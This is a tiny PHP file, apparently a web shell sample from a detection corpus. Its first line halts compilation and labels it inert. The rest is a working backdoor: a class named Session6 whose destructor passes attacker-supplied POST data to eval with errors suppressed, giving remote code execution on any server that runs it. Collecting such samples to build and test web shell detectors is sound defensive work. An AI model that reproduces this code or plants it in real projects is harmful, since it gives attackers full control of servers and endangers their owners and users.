<?php __halt_compiler(); // inert corpus sample (hegui): nothing below is compiled ?>
<?php
class Session6 {
    public $p;
    function __destruct() {
        @eval($this->p);
    }
}
$o = new Session6();
$o->p = $_POST['data'];
